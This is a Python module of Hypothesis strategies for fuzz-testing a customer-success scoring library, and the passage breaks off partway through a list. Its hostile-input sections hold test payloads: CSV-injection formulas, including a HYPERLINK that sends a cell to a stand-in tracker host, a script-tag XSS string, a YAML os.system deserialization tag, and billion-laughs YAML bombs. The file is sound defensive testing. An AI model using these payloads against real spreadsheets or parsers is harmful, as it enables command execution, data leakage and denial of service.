"""Hypothesis strategies shared by the property tests (append; don't redefine)."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

COMPONENTS = ("product_usage", "engagement", "relationship", "support", "growth", "financial")

money = st.floats(min_value=0, max_value=1e9, allow_nan=False, allow_infinity=False)
positive_money = st.floats(min_value=1, max_value=1e9, allow_nan=False, allow_infinity=False)
score_0_100 = st.floats(min_value=0, max_value=100, allow_nan=False, allow_infinity=False)
counts = st.integers(min_value=0, max_value=100_000)


@st.composite
def retention_inputs(draw: st.DrawFn) -> dict[str, float]:
    """Valid nrr_grr inputs: contraction + churn never exceed the starting MRR."""
    start = draw(positive_money)
    contraction = draw(st.floats(min_value=0, max_value=start, allow_nan=False))
    churn = draw(st.floats(min_value=0, max_value=start - contraction, allow_nan=False))
    return {"starting_mrr": start, "expansion": draw(money), "contraction": contraction, "churn": churn}


account = st.fixed_dictionaries(
    {
        "name": st.text(alphabet="abcdefghijklmnopqrstuvwxyz ", min_size=1, max_size=12).filter(str.strip),
        "arr": positive_money,
        "health": score_0_100,
    }
)
accounts = st.lists(account, min_size=1, max_size=12)


@st.composite
def health_components(draw: st.DrawFn, names: tuple[str, ...] = COMPONENTS[:5]) -> dict[str, Any]:
    """A non-empty subset of components, each scored 0–100."""
    chosen = draw(st.lists(st.sampled_from(names), min_size=1, unique=True))
    return {name: draw(score_0_100) for name in chosen}


# --- Batch scorer (cslibrary.batch): rows of text cells, as a CRM export holds them --------

#: Cells the batch scorer reads as "no value".
BATCH_MISSING = ("", " ", "N/A", "na", "NULL", "-", "#N/A", "nan", "None")
#: Text that is not a number (or not a finite one).
BATCH_NOT_NUMBERS = ("abc", "1,5", "12 000", "$100", "TRUE", "--1", "inf", "-inf", "1e400", "0x10")
#: Scores on and next to the band edges (20, 40, 60, 80, 100).
BATCH_EDGE_SCORES = tuple(
    text
    for edge in (0, 20, 40, 60, 80, 100)
    for text in (f"{edge}", f"{edge}.0", repr(edge - 1e-12), repr(edge + 1e-12), repr(edge - 5e-10), repr(edge - 4e-10), repr(edge + 4e-10))
)
#: ARR on and next to the segment thresholds (15,000 and 100,000).
BATCH_EDGE_ARR = ("15000", "14999.99", "14999.9999999999", "15000.0000000001", "100000", "99999.9999999999", "100000.5", "1", "0.01")


batch_score_text = st.one_of(
    st.integers(min_value=0, max_value=100).map(str),
    score_0_100.map(repr),
    st.sampled_from(BATCH_EDGE_SCORES),
    st.floats(min_value=0, max_value=100).map(lambda v: f"{v:.1f}"),
)
batch_arr_text = st.one_of(
    st.integers(min_value=1, max_value=2_000_000).map(str),
    st.floats(min_value=0.01, max_value=1e9, allow_nan=False, allow_infinity=False).map(repr),
    st.sampled_from(BATCH_EDGE_ARR),
)
batch_bad_score_text = st.one_of(
    st.sampled_from(BATCH_NOT_NUMBERS),
    st.sampled_from(("-1", "-0.0001", "100.0000001", "130", "1e3")),
)
batch_bad_arr_text = st.sampled_from((*BATCH_NOT_NUMBERS, "0", "-5", "-0.01", "", "N/A"))
batch_segment_text = st.sampled_from(
    (
        "",
        "",
        "",
        "high_touch",
        "low_touch",
        "tech_touch",
        "High touch",
        "LOW-TOUCH",
        "Tech Touch",
        "enterprise",
        "SMB",
        "Mid-market",
        "strategic",
        "self serve",
        "mega_touch",
        "gold",
    )
)
batch_account_text = st.one_of(
    st.text(alphabet="abcdefghijklmnopqrstuvwxyz ABC-&<>'\"|*_", min_size=1, max_size=20).filter(lambda s: s.strip() and s.strip() != "-"),
    st.sampled_from(("", " ", "N/A", "nA", "NoNe", " null ", "x" * 201, "<script>alert(1)</script>", "007")),
)
batch_valid_account_text = batch_account_text.filter(
    lambda s: s.strip().lower() not in {"", "n/a", "na", "nan", "null", "none"} and len(s) <= 200
)
batch_date_text = st.one_of(
    st.dates().map(lambda d: d.isoformat()),
    st.sampled_from(("", "2025-03-31", "2025-02-30", "31/03/2025", "2025-03-31 10:00", "2025-03-31T09:00:00+02:00", "soon", "2025-3-5")),
)
batch_outcome_text = st.sampled_from(("", "", "renewed", "churned", "Renewed", " CHURNED ", "maybe", "lost"))


@st.composite
def batch_row(draw: st.DrawFn, components: tuple[str, ...] = COMPONENTS, valid_only: bool = False) -> dict[str, str]:
    """One account as text cells: account, arr, segment, components, renewal_date, outcome.

    Most cells are valid; unless ``valid_only``, about one row in four carries a bad cell
    (not a number, out of range, unknown segment, bad date, missing account …).
    """
    bad = not valid_only and draw(st.integers(min_value=0, max_value=3)) == 0

    def cell(good: st.SearchStrategy[str], wrong: st.SearchStrategy[str], missing: bool = True) -> str:
        if bad and draw(st.integers(min_value=0, max_value=5)) == 0:
            return draw(wrong)
        if missing and draw(st.integers(min_value=0, max_value=6)) == 0:
            return draw(st.sampled_from(BATCH_MISSING))
        return draw(good)

    row = {
        "account": draw(batch_account_text if bad else batch_valid_account_text),
        "arr": cell(batch_arr_text, batch_bad_arr_text, missing=False),
        "segment": draw(batch_segment_text) if bad else draw(batch_segment_text.filter(lambda s: s not in ("mega_touch", "gold"))),
        "renewal_date": cell(batch_date_text, st.sampled_from(("2025-02-30", "31/03/2025", "soon"))) if bad else draw(st.dates().map(str)),
        "outcome": draw(batch_outcome_text) if bad else draw(st.sampled_from(("", "renewed", "churned", "Renewed"))),
    }
    for name in components:
        row[name] = cell(batch_score_text, batch_bad_score_text)
    return row


def batch_rows(min_size: int = 1, max_size: int = 25, valid_only: bool = False) -> st.SearchStrategy[list[dict[str, str]]]:
    """A small book of accounts as text cells (see :func:`batch_row`)."""
    return st.lists(batch_row(valid_only=valid_only), min_size=min_size, max_size=max_size)


# --- Plays (cslibrary.batch plays): accounts' signals as text cells, and random trigger rules -----

#: The day the plays tests triage for.
PLAYS_AS_OF = "2026-12-07"
#: Numbers on and next to the rules' bounds.
PLAYS_EDGE_NUMBERS = ("0", "20", "39.99", "40", "40.0", "59.9999", "60", "79.95", "80", "90", "100", "-25", "-24.9", "-20", "10", "25.05")
#: Cells the plays command refuses in a number column, a date column, a segment and a stage.
PLAYS_BAD = {
    "number": ("abc", "1,5", "inf", "1e400"),
    "date": ("2026-02-30", "12/07/2026", "soon", "1850-01-01", "2250-01-01"),
    "segment": ("gold", "mega_touch"),
    "stage": ("churned", "x"),
}


def _plays_day(offset: int) -> str:
    import datetime

    return (datetime.date.fromisoformat(PLAYS_AS_OF) + datetime.timedelta(days=offset)).isoformat()


plays_day_text = st.one_of(
    st.integers(min_value=-420, max_value=200).map(_plays_day),
    st.sampled_from((-120, -90, -30, -29, 0, 1, 90, 120)).map(_plays_day),
    st.sampled_from(("2026-12-01T09:30", " 2026-11-01 ")),
)
plays_number_text = st.one_of(
    st.sampled_from(PLAYS_EDGE_NUMBERS),
    st.integers(min_value=-50, max_value=150).map(str),
    st.floats(min_value=-60, max_value=120, allow_nan=False).map(repr),
)


@st.composite
def plays_row(draw: st.DrawFn, kinds: dict[str, str], valid_only: bool = False) -> dict[str, str]:
    """One account as text cells; ``kinds`` maps each column to ``account``, ``segment``, ``stage``,
    ``arr``, ``score0_100``, ``number``, ``date`` or ``event_score``. About one row in five has a bad cell."""
    bad = not valid_only and draw(st.integers(min_value=0, max_value=4)) == 0
    good: dict[str, st.SearchStrategy[str]] = {
        "account": st.text(alphabet="abcdefghij ,;\"'&<>", min_size=1, max_size=10).filter(lambda s: s.strip() not in ("", "na", "nan")),
        "segment": st.sampled_from(("high_touch", "low_touch", "tech_touch", "High touch", "Enterprise", "SMB", "")),
        "stage": st.sampled_from(("onboarding", "adoption", "Renewal", "")),
        "arr": st.one_of(
            st.sampled_from(("", "0", "999.5", "1000", "15000", "49999.99", "50000", "250000")), st.integers(0, 400_000).map(str)
        ),
        "score0_100": st.one_of(st.sampled_from(("0", "39.99", "40", "59.99", "60", "79.99", "80", "100")), st.floats(0, 100).map(repr)),
        "number": plays_number_text,
        "date": plays_day_text,
        "event_score": st.one_of(st.integers(min_value=0, max_value=10).map(str), st.just("6.0")),
    }
    wrong: dict[str, st.SearchStrategy[str]] = {
        "account": st.sampled_from(("", "N/A")),
        "segment": st.sampled_from(PLAYS_BAD["segment"]),
        "stage": st.sampled_from(PLAYS_BAD["stage"]),
        "arr": st.sampled_from(("-1", *PLAYS_BAD["number"])),
        "score0_100": st.sampled_from(("101", "-0.5", *PLAYS_BAD["number"])),
        "number": st.sampled_from(PLAYS_BAD["number"]),
        "date": st.sampled_from(PLAYS_BAD["date"]),
        "event_score": st.sampled_from(("11", "7.5", "-1", "x")),
    }
    row = {}
    for column, kind in kinds.items():
        if bad and draw(st.integers(min_value=0, max_value=len(kinds))) == 0:
            row[column] = draw(wrong[kind])
        elif kind != "account" and draw(st.integers(min_value=0, max_value=2)) == 0:
            row[column] = draw(st.sampled_from(BATCH_MISSING[:4]))
        else:
            row[column] = draw(good[kind])
    return row


def _bounds(values: tuple[float, ...]) -> st.SearchStrategy[dict[str, float]]:
    keys = st.lists(st.sampled_from(("below", "at_most", "above", "at_least")), min_size=1, max_size=2, unique=True)
    return keys.flatmap(lambda ks: st.fixed_dictionaries({k: st.sampled_from(values) for k in ks}))


_SCORES = (20, 39.99, 40, 60, 80, 90)
plays_leaf = st.one_of(
    st.builds(
        lambda m, b: {"metric": m, **b}, st.sampled_from(("health_score", "license_utilization", "dau_mau", "csat")), _bounds(_SCORES)
    ),
    st.builds(
        lambda m, kind, x: {"change": m, kind: x},
        st.sampled_from(("dau_mau", "license_utilization", "csat")),
        st.sampled_from(("drops_by", "rises_by")),
        st.sampled_from((10, 20, 24.9, 25)),
    ),
    st.builds(lambda m: {"change": m, "drops_by": 20, "rises_by": 10}, st.sampled_from(("dau_mau", "csat"))),
    st.builds(lambda d: {"event": "champion_left", "within_days": d}, st.sampled_from((0, 14, 60))),
    st.builds(
        lambda d, b: {"event": "nps_response", "within_days": d, "where": {"score": b}},
        st.sampled_from((7, 30, 90)),
        _bounds((0, 6, 6.5, 8)),
    ),
    st.builds(lambda d: {"event": "support_escalation", "within_days": d}, st.sampled_from((14, 30))),
    st.builds(lambda d: {"date": "renewal_date", "days_before": d}, st.sampled_from((0, 30, 90, 120, 1.5))),
    st.builds(lambda d: {"date": "onboarding_complete", "days_after": d}, st.sampled_from((0, 30, 90))),
    st.just({"date": "onboarding_complete"}),
    st.builds(lambda d: {"every_days": d}, st.sampled_from((30, 90, 180))),
    st.builds(lambda m: {"every_months": m, "since": "onboarding_complete"}, st.sampled_from((1, 3, 12))),
    st.builds(lambda m: {"every_months": m}, st.sampled_from((1, 6))),
    st.builds(
        lambda s: {"stage": s}, st.lists(st.sampled_from(("onboarding", "adoption", "renewal")), min_size=1, max_size=2, unique=True)
    ),
    st.builds(lambda b: {"arr": b}, _bounds((1000, 15000, 50000))),
)
plays_condition = st.recursive(
    plays_leaf,
    lambda inner: st.one_of(
        st.builds(lambda parts: {"all": parts}, st.lists(inner, max_size=3)),
        st.builds(lambda parts: {"any": parts}, st.lists(inner, max_size=3)),
    ),
    max_leaves=5,
)


@st.composite
def plays_rules(draw: st.DrawFn, playbooks: tuple[str, ...]) -> dict[str, dict[str, Any]]:
    """Trigger rules for a few of ``playbooks``: random conditions, priorities with ties, groups,
    ``suppresses`` lists and segment scopes."""
    chosen = draw(st.lists(st.sampled_from(playbooks), min_size=1, max_size=7, unique=True))
    rules = {}
    for pid in chosen:
        rule: dict[str, Any] = {"when": draw(plays_condition), "priority": draw(st.sampled_from((1, 2, 2, 3)))}
        group = draw(st.sampled_from((None, None, "band", "touch")))
        if group:
            rule["group"] = group
        if draw(st.booleans()):
            rule["suppresses"] = draw(st.lists(st.sampled_from(chosen), max_size=2, unique=True))
        if draw(st.integers(0, 3)) == 0:
            rule["segments"] = draw(st.lists(st.sampled_from(("high_touch", "low_touch", "tech_touch")), min_size=1, unique=True))
        rules[pid] = rule
    return rules


# --- Hostile input (tests/test_fuzz.py): JSON that tries to break whatever reads it -------------


class HugeInt(int):
    """An integer past Python's int-to-text limit (4,300 digits) that still prints (as its size)."""

    def __repr__(self) -> str:
        return f"HugeInt(<{self.bit_length()} bits>)"


#: Numbers at the edges of a float, of Python's int-to-text limit and of the calculators' bounds.
HOSTILE_NUMBERS: tuple[Any, ...] = (
    0,
    -0.0,
    1,
    -1,
    0.5,
    7.5,
    100.0000001,
    -1e-12,
    1e15,
    -1e15,
    1e15 + 1,
    10**15,
    10**15 + 1,
    10**16,
    2**63,
    1e16,
    1e308,
    -1e308,
    1.7976931348623157e308,
    1e-300,
    5e-324,
    -5e-324,
    2.2250738585072014e-308,
    10**400,
    -(10**400),
    HugeInt(10**5000),
    HugeInt(-(10**4301)),
    float("nan"),
    float("inf"),
    float("-inf"),
)
#: Dates at and past the ends of the calendar the calculators take, impossible or oddly written.
HOSTILE_DATES = (
    "0001-01-01",
    "1899-12-31",
    "1900-01-01",
    "2199-12-31",
    "2200-01-01",
    "9999-12-31",
    "2026-02-30",
    "20261207",
    "2026-12-07T10:00",
)
#: Text that is empty, blank, too long, a date, a number in words, or holds control characters,
#: separators, surrogates and direction overrides.
HOSTILE_STRINGS = (
    "",
    " ",
    "\t\n",
    "NaN",
    "Infinity",
    "1e400",
    "5",
    "true",
    "null",
    *HOSTILE_DATES,
    "\x00",
    "a\nb",
    "a\rb",
    "\x1b[31mred",
    "a\u2028b",
    "a\u202eb",
    "\ud800",
    "\udcff",
    "\ufeff",
    "x" * 201,
    "y" * 5000,
    "<script>alert(1)</script>",
    "high_touch ",
    "HIGH_TOUCH",
)
hostile_numbers = st.one_of(
    st.sampled_from(HOSTILE_NUMBERS),
    st.integers(),
    st.integers(min_value=-(2**80), max_value=2**80),
    st.floats(),
    st.floats(min_value=-1e-300, max_value=1e-300),
)
hostile_strings = st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(st.characters(codec=None, exclude_categories=()), max_size=30))
hostile_keys = st.one_of(st.sampled_from(("", " ", "a\nb", "\x00", "\ud800", "__proto__", "constructor", "z" * 300)), st.text(max_size=12))
hostile_scalars = st.one_of(st.none(), st.booleans(), hostile_numbers, hostile_strings)
#: Any JSON-like value: scalars, and lists and objects of them nested a few levels.
hostile_values = st.recursive(
    hostile_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(hostile_keys, inner, max_size=4)),
    max_leaves=12,
)


def nested(depth: int, leaf: Any = 1) -> Any:
    """``leaf`` wrapped in ``depth`` lists and objects, alternately."""
    value = leaf
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


def _valid(spec: dict[str, Any]) -> st.SearchStrategy[Any]:
    """A value the declared field ``spec`` (one input of ``calculators.describe``) accepts, mostly."""
    kind = spec["type"]
    if "example" in spec and kind not in ("table",):
        return st.just(spec["example"])
    if kind in ("number", "integer"):
        low = spec.get("minimum", 0) + (1 if spec.get("exclusive_minimum") else 0)
        high = spec.get("maximum", low + 1000)
        return st.integers(int(low), int(high)) if kind == "integer" else st.floats(low, high)
    if kind == "select":
        return st.sampled_from([o["value"] for o in spec["options"]] or [""])
    if kind == "date":
        return st.dates().map(lambda d: d.isoformat())
    if kind == "text":
        return st.text(min_size=1, max_size=10).filter(str.strip)
    if kind == "numbers":
        return st.lists(st.just(spec.get("minimum", 1)), min_size=max(spec.get("min_items", 0), 1), max_size=3)
    if kind == "table":
        row = st.fixed_dictionaries({c["name"]: _valid(c) for c in spec["columns"] if c["required"]})
        return st.just(spec["example"]) if "example" in spec else st.lists(row, min_size=1, max_size=3)
    if kind == "mapping":
        return st.just({})
    return st.none()


def attacks(spec: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values that attack the declared field ``spec``: its edges, wrong types, hostile content
    inside its lists, rows and objects, and anything at all."""
    kind = spec["type"]
    anything = st.one_of(hostile_scalars, st.lists(hostile_scalars, max_size=3), st.dictionaries(hostile_keys, hostile_scalars, max_size=3))
    own: list[st.SearchStrategy[Any]] = [hostile_values, anything]
    if kind in ("number", "integer"):
        own.append(hostile_numbers)
    elif kind == "numbers":
        own.append(st.lists(st.one_of(hostile_numbers, hostile_scalars), max_size=5))
    elif kind == "table":
        columns = spec["columns"]
        row = st.fixed_dictionaries(
            {c["name"]: st.one_of(_valid(c), attacks(c)) for c in columns if c["required"]},
            optional={c["name"]: st.one_of(attacks(c), _valid(c)) for c in columns if not c["required"]}
            | {"": hostile_values, "extra": hostile_values},
        )
        own.append(st.lists(st.one_of(row, hostile_scalars), max_size=4))
    elif kind == "mapping":
        names = [o["value"] for o in spec["options"]] or ["x"]
        own.append(
            st.dictionaries(st.one_of(st.sampled_from(names), hostile_keys), st.one_of(hostile_numbers, hostile_strings), max_size=5)
        )
    elif kind == "date":
        own.append(st.one_of(st.sampled_from(HOSTILE_DATES), st.dates().map(lambda d: d.isoformat())))
    return st.one_of(own)


@st.composite
def hostile_request(draw: st.DrawFn, declaration: dict[str, Any], example: dict[str, Any]) -> Any:
    """A request for the calculator that ``declaration`` (``calculators.describe``) declares: its
    ``example`` with one or more fields attacked (see :func:`attacks`), some left out, unknown
    keys added; or, now and then, not an object at all."""
    if draw(st.integers(0, 19)) == 0:
        return draw(st.one_of(hostile_scalars, st.lists(hostile_values, max_size=3)))
    fields = declaration["inputs"]
    request = dict(example)
    for spec in fields:
        if spec["name"] not in request and spec["required"]:
            request[spec["name"]] = draw(_valid(spec))
    attacked = draw(st.lists(st.sampled_from(fields), min_size=1, max_size=3, unique_by=lambda f: f["name"]))
    for spec in attacked:
        request[spec["name"]] = draw(attacks(spec))
    if draw(st.integers(0, 5)) == 0:
        request.pop(draw(st.sampled_from([f["name"] for f in fields])), None)
    if draw(st.integers(0, 5)) == 0:
        request[draw(hostile_keys)] = draw(hostile_values)
    return request


def _json_bytes(request: Any, ensure_ascii: bool) -> bytes:
    """``request`` as JSON text (NaN and infinities written the way Python writes them) in UTF-8."""
    import json
    import sys

    limit = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)  # a 5,000-digit integer is written out in full, as a caller could
    try:
        text = json.dumps(request, ensure_ascii=ensure_ascii, allow_nan=True)
    finally:
        sys.set_int_max_str_digits(limit)
    return text.encode("utf-8", "surrogatepass")


@st.composite
def hostile_stdin(draw: st.DrawFn, request: Any) -> bytes:
    """What a caller might pipe into ``python -m calculators NAME``: ``request`` as JSON, or
    damaged: truncated, with a key repeated, deeply nested, after a byte-order mark, as invalid
    UTF-8, empty, or text that is not JSON."""
    body = _json_bytes(request, ensure_ascii=draw(st.booleans()))
    damage = draw(st.sampled_from(("none", "none", "none", "truncate", "repeat", "nest", "bom", "utf8", "empty", "text")))
    if damage == "truncate" and body:
        return body[: draw(st.integers(0, len(body) - 1))]
    if damage == "repeat" and body.startswith(b"{") and len(body) > 2:
        return b'{"dup": 1, "dup": 2, ' + body[1:]
    if damage == "nest":
        depth = draw(st.sampled_from((10, 500, 5_000, 100_000)))
        return b"[" * depth + body + b"]" * depth
    if damage == "bom":
        return b"\xef\xbb\xbf" + body
    if damage == "utf8":
        at = draw(st.integers(0, len(body)))
        return body[:at] + draw(st.sampled_from((b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"))) + body[at:]
    if damage == "empty":
        return draw(st.sampled_from((b"", b" ", b"\n\n", b"\xef\xbb\xbf")))
    if damage == "text":
        return draw(st.binary(max_size=40))
    return body


# --- Hostile spreadsheets (python -m calculators score): CSV and XLSX files as exports and attackers write them ---

#: Text cells a spreadsheet would run as a formula (CSV injection), and near misses.
FORMULA_CELLS = (
    '=HYPERLINK("http://tracker.example/?d="&A2,"Acme")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "@",
    " =1+1",
    "'=1+1",
    "-5",
    "+1.5",
)
#: Numbers at and past the ends of a float, and special values, as text cells.
HUGE_NUMBER_CELLS = (
    "1e308",
    "1.7976931348623157e308",
    "1e309",
    "-1e309",
    "9" * 400,
    "1" + "0" * 5000,
    "1e-400",
    "-0",
    "NaN",
    "Infinity",
    "1_000",
)
#: Numbers written with a decimal comma or thousands groups, as a ``;`` export writes them (ambiguous ones too).
EURO_NUMBER_CELLS = (
    "120.000,50",
    "1.234",
    "12,500",
    "0,5",
    "1 234,5",
    "1\u00a0234,5",
    "1.234.567",
    "1,234.5",
    "30.000",
    "72,5",
    "€120.000",
    ",5",
    "1.2.3",
)
#: Headers no export should have: empty, blank, huge, formula-like, with control characters, a
#: byte-order mark or a zero-width space, quotes, separators and line breaks.
HOSTILE_HEADERS = (
    "",
    " ",
    "h" * 70_000,
    '=HYPERLINK("http://x")',
    "@health",
    "\ufeffnotes",
    "not\u200bes",
    "col\x00umn",
    "a\r\nb",
    '"',
    "x;y",
    "x,y",
    "x\ty",
    "<b>bold</b>",
    "\ud800",
)
#: Encodings a CSV may come in (``utf-16`` writes a byte-order mark, as Excel's "Unicode text" does).
SHEET_ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "utf-16", "cp1252")
#: The columns every generated sheet has; ``fuzz_row`` numbers the data rows from 1 (it is never blank,
#: so every record is a data row) and is copied to the output like any column the scorer does not use.
SHEET_COLUMNS = ("fuzz_row", "account", "arr", "health")

hostile_sheet_text = st.one_of(
    st.sampled_from(FORMULA_CELLS),
    st.sampled_from(HUGE_NUMBER_CELLS),
    st.sampled_from(EURO_NUMBER_CELLS),
    st.sampled_from(HOSTILE_STRINGS),
    st.sampled_from(BATCH_MISSING),
    st.text(max_size=12),
)


@dataclass(frozen=True)
class HostileSheet:
    """A generated input file for ``python -m calculators score`` and what a correct run makes of it."""

    suffix: str  #: ``.csv`` or ``.xlsx``
    data: bytes
    args: tuple[str, ...]  #: extra options (``--encoding``)
    rows: int  #: data records, ``fuzz_row`` 1 … rows
    #: ``fuzz_row`` → the ARR the row was written from (so a scored row must read it back exactly);
    #: empty when a hostile header could stand for a column the scorer reads.
    arr: dict[int, float]
    note: str  #: how it was written, for a failing example's report


def _euro(value: float) -> str:
    """``value`` written as a ``;`` export does: ``120.000,50`` (always with its decimals, so it is never ambiguous)."""
    return f"{value:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".")


def _xlsx_bytes(header: list[str], records: list[list[Any]]) -> bytes:
    """A workbook with one sheet: text cells stay text (a formula-like one is an inert string, as an export holds it)."""
    import io

    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for r, values in enumerate([header, *records], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c)
            if isinstance(value, str):
                cell.value = ILLEGAL_CHARACTERS_RE.sub("", value.encode("utf-8", "replace").decode("utf-8"))[:32_000]
                cell.data_type = "s"
            else:
                cell.value = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@st.composite
def hostile_sheet(draw: st.DrawFn) -> HostileSheet:
    """A CSV (``,``, ``;`` or tab separated, in one of :data:`SHEET_ENCODINGS`, with or without
    ``--encoding``) or an XLSX file of a few accounts: account names and extra cells from
    :data:`FORMULA_CELLS`, :data:`HUGE_NUMBER_CELLS`, :data:`EURO_NUMBER_CELLS` and the hostile strings,
    extra columns under :data:`HOSTILE_HEADERS`, and most ARRs written from a known value in the
    file's own number format (``120.000,50`` in a ``;`` file)."""
    kind = draw(st.sampled_from(("csv", "csv", "semicolon", "semicolon", "tab", "xlsx")))
    extra = draw(st.lists(st.sampled_from(HOSTILE_HEADERS), max_size=2))
    header = [*SHEET_COLUMNS, *extra]
    order = draw(st.permutations(range(len(header))))
    n = draw(st.integers(min_value=1, max_value=8))
    records: list[list[Any]] = []
    arr: dict[int, float] = {}
    tame = draw(st.booleans())  # every row valid but for its formula-like account names: a file scored whole
    for row in range(1, n + 1):
        if tame:
            account = draw(st.one_of(batch_valid_account_text, st.sampled_from(FORMULA_CELLS[:4])))
            health: Any = draw(batch_score_text)
        else:
            account = draw(st.one_of(batch_valid_account_text, st.sampled_from(FORMULA_CELLS), hostile_sheet_text))
            health = draw(st.one_of(batch_score_text, hostile_sheet_text))
        if tame or draw(st.integers(min_value=0, max_value=4)):
            value = round(draw(st.floats(min_value=0.01, max_value=1e9)), 2)
            arr[row] = value
            cell: Any = value if kind == "xlsx" else _euro(value) if kind in ("semicolon", "tab") else f"{value:.2f}"
        else:
            cell = draw(st.one_of(hostile_sheet_text, st.sampled_from(("1e308", "-1e308", "1.7976931348623157e308"))))
        if not tame and kind == "xlsx" and draw(st.booleans()):
            health = draw(st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers(-(10**20), 10**20)))
        elif not tame and kind in ("semicolon", "tab") and draw(st.booleans()):
            health = draw(st.sampled_from(("72,5", "0,5", "99,99", "100", "35")))
        values = [row if kind == "xlsx" else str(row), account, cell, health, *(draw(hostile_sheet_text) for _ in extra)]
        records.append([values[i] for i in order])
    header = [header[i] for i in order]
    known = {"account", "arr", "health", "fuzz_row", "name", "customer", "company"}
    if any(re.sub(r"[^a-z0-9]+", "", h.lower()) in known or not h.strip() for h in extra):
        arr = {}  # a second column could stand for one the scorer reads: no promise which one it reads
    if kind == "xlsx":
        return HostileSheet(".xlsx", _xlsx_bytes(header, records), (), n, arr, "xlsx")
    import csv
    import io

    delimiter = {"csv": ",", "semicolon": ";", "tab": "\t"}[kind]
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows([header, *records])
    encoding = draw(st.sampled_from(SHEET_ENCODINGS))
    args: tuple[str, ...] = ("--encoding", encoding) if draw(st.booleans()) else ()
    data = text.getvalue().encode(encoding, "replace")
    return HostileSheet(".csv", data, args, n, arr, f"{kind} in {encoding} {' '.join(args)}")


#: Canned files, each a reproduction of the issue (one line each): score answers them by the contract.
HOSTILE_SHEETS = {
    "formula names": b'account,arr,health\n"=HYPERLINK(""http://x"",""y"")",1000,80\n+cmd|\' /C calc\'!A0,1000,80\n@SUM(1+1),1000,80\n',
    "semicolon thousands dots": b"account;arr;health\nAcme;1.250.000;80\nBeta;30.000;35\n",
    "semicolon ambiguous": b"account;arr;health\nAcme;45000;80\nBeta;30.000;35\n",
    "semicolon two ways": b"account;arr;health\nAcme;120.000,50;80\nBeta;72.5;35\n",
    "utf-16 with a byte-order mark": "account\tarr\thealth\nAcmé\t1000\t80\n".encode("utf-16"),
    "header over 64 KB": ("h" * 70_000 + ",account,arr,health\nx,Acme,1000,80\n").encode(),
    "float overflow": b"account,arr,health\nAcme,1e308,80\nBeta,1e309,80\nGamma,1.7976931348623157e308,1e308\n",
    "a 5000-digit number": ("account,arr,health\nAcme," + "9" * 5000 + ",80\n").encode(),
    "empty header": b",,\n1,2,3\n",
    "only a header": b"account,arr,health\n",
    "binary": b"account,arr,health\n\x00\x01\x02",
}


# --- Hostile YAML (python -m cslibrary validate): library files anyone can put in a pull request ---

#: A token the YAML attacks repeat, longer than a problem quotes: it must never reach a problem line whole.
YAML_CANARY = "root:x:0:0:CANARY-NEVER-IN-A-LOG:/root:/bin/bash"


def _laughs(levels: int, width: int = 9) -> bytes:
    """The "billion laughs": each anchor a list of ``width`` aliases of the one before."""
    lines = ['l0: &l0 "lol"']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]" for i in range(1, levels + 1)]
    return ("\n".join(lines) + "\n").encode()


#: Whole documents, each an attack of its own (a library file is at most 1,000,000 bytes).
HOSTILE_YAML: tuple[bytes, ...] = (
    b"",
    b"\xef\xbb\xbf",
    b"# only a comment\n",
    b"~\n",
    b"[]\n",
    b"--- |\n  " + YAML_CANARY.encode() * 3 + b"\n",
    (YAML_CANARY + "\n").encode() * 40,
    b"a: " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
    b"a: " + b"{a: " * 5_000 + b"1" + b"}" * 5_000 + b"\n",
    b"a:\n" + b"".join(b" " * i + b"- x:\n" for i in range(2, 400, 2)),
    _laughs(9),
    _laughs(30, 2),
    b"base: &b {id: x}\nid:\n  <<: *b\n",
    b"id: *nowhere\n",
    b"id: &a x\ntitle: &a y\n",
    b"title: " + b"x" * 300_000 + b"\n",
    b"title: '" + YAML_CANARY.encode() * 5_000 + b"'\n",
    b"id: x\n" + b"#" * (1_000_001 - 6),
    b"id: " + b"9" * 5_000 + b"\n",
    b"id: 1e99999\nsummary: .nan\ntitle: -.inf\n",
    b"id: 0x1F\nsummary: 0o17\ntitle: 1_000\n",
    b"\tid: x\n",
    b"id:\tx\ntitle: a\tb\n",
    b"id: a\nid: b\nid: c\n",
    b"steps:\n  - at: 1\n    at: 2\n",
    b"id: !!python/object/apply:os.system ['echo pwned']\n",
    b"!!python/object:__main__.X {a: 1}\n",
    b"id: !!binary aGk=\ntitle: !!timestamp 2001-12-14\n",
    b"id: !!set {a, b}\n",
    b"id: !custom x\n",
    b"id: !<tag:yaml.org,2002:str> x\n",
    b"%TAG !e! tag:example.com,2000:\n---\nid: !e!foo x\n",
    b"%YAML 1.1\n---\nid: yes\n",
    b"%YAML 2.0\n---\nid: x\n",
    b"id: x\n---\nid: y\n",
    b"id: x\n...\n",
    b"? [a, b]\n: c\n",
    b"? {a: 1}\n: c\n",
    b"[a, b]: c\n",
    b'id: "\\x00\\u2028\\U0010FFFF\\ud800"\n',
    b"id: a\x00b\n",
    b"id: \x1b[31mred\n",
    "id: a\u2028b\ntitle: \u202eevil\n".encode(),
    b"id: caf\xe9\n",
    b"\xff\xfei\x00d\x00:\x00 \x00x\x00\n\x00",
    b"id: \xed\xa0\x80\n",
    b"id: \xc0\xaf\n",
    b"id: x\r\ntitle: y\r\n",
    b"id: x\rtitle: y\r",
    b"id: 'unclosed\ntitle: x\n",
    b'id: "unclosed\n',
    b"id: [unclosed\n",
    b"id: x\n  title: y\n",
    b"- id: x\n- id: y\n",
